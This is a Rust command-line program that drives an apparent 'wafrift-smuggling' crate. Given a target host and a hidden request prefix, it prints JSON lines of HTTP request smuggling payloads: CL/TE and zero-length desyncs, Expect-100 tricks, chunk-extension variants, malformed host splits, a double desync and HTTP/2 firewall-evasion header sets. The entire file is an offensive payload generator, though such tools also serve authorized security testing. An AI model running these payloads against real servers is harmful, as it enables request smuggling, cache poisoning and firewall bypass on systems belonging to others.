//! Prints what the crate wafrift-smuggling would send to smuggle a request: `smuggler HOST PREFIX`, where PREFIX is
//! the beginning of the request that is hidden. One JSON object a line: `{"what", "bytes"}` for HTTP/1.1, and
//! `{"what", "fields"}` for the fields of an HTTP/2 request, in order.

use serde_json::json;
use std::error::Error;
use wafrift_smuggling::h2_evasion::{self, H2Evasion};
use wafrift_smuggling::smuggling::{self, SmugglingPayload};

fn main() -> Result<(), Box<dyn Error>> {
    let mut args = std::env::args().skip(1);
    let (Some(host), Some(prefix)) = (args.next(), args.next()) else { return Err("smuggler HOST PREFIX".into()) };
    let mut payloads = smuggling::all_payloads(&host, &prefix)?;
    payloads.extend(smuggling::all_detection_probes(&host)?);
    payloads.push(smuggling::zero_cl_desync("/con", &prefix, prefix.len())?);
    payloads.extend(smuggling::vh_masked_header("Content-Length", "23")?);
    payloads.push(smuggling::expect_100_smuggle(&prefix, 6)?);
    payloads.extend(smuggling::expect_100_obfuscated("x", "y", &prefix, 6)?);
    payloads.push(smuggling::cl_zero_via_expect(&prefix, 6)?);
    payloads.extend(smuggling::malformed_host_split(&host)?);
    payloads.extend(smuggling::chunk_extension_variants(&prefix)?);
    for SmugglingPayload { description, raw_bytes, .. } in payloads {
        println!("{}", json!({ "what": description, "bytes": raw_bytes }));
    }
    println!("{}", json!({ "what": "two desyncs", "bytes": smuggling::double_desync("/con", "/aux", &prefix)? }));
    let mut evasions = h2_evasion::all_evasions("/", &host)?;
    evasions.push(h2_evasion::h2_request_tunnel_colon_header_name("/", &host));
    for H2Evasion { name, pseudo_headers, headers, .. } in evasions {
        let fields: Vec<_> = pseudo_headers.into_iter().chain(headers).collect();
        println!("{}", json!({ "what": name, "fields": fields }));
    }
    Ok(())
}
